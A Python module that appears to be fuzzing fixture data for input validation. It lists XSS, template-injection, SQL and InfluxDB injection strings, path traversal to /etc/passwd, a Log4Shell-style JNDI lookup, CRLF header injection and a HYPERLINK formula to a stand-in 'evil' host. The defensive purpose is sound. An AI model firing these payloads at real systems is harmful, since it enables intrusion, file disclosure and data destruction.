"""What somebody might put into a field who means no good, or whose phone is broken."""

from typing import Final

INJECTIONS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "{{ 7*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "' OR '1'='1' --",
    "'; DROP TABLE device; --",
    '=HYPERLINK("http://evil","x")',
    "x\nadmin v=1",
    "a,b=c d=1i 0",
    '"; DROP MEASUREMENT "env',
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/etc/cron.d/x",
    "a\x00b",
    "\u202eevil\u202c",
    "\ud83d",
    "\r\nSet-Cookie: a=b",
    "${jndi:ldap://x}",
    "%s%n%x",
    "A" * 5000,
    "-1",
    "1e999",
    "NaN",
    "9" * 5000,
    "",
)
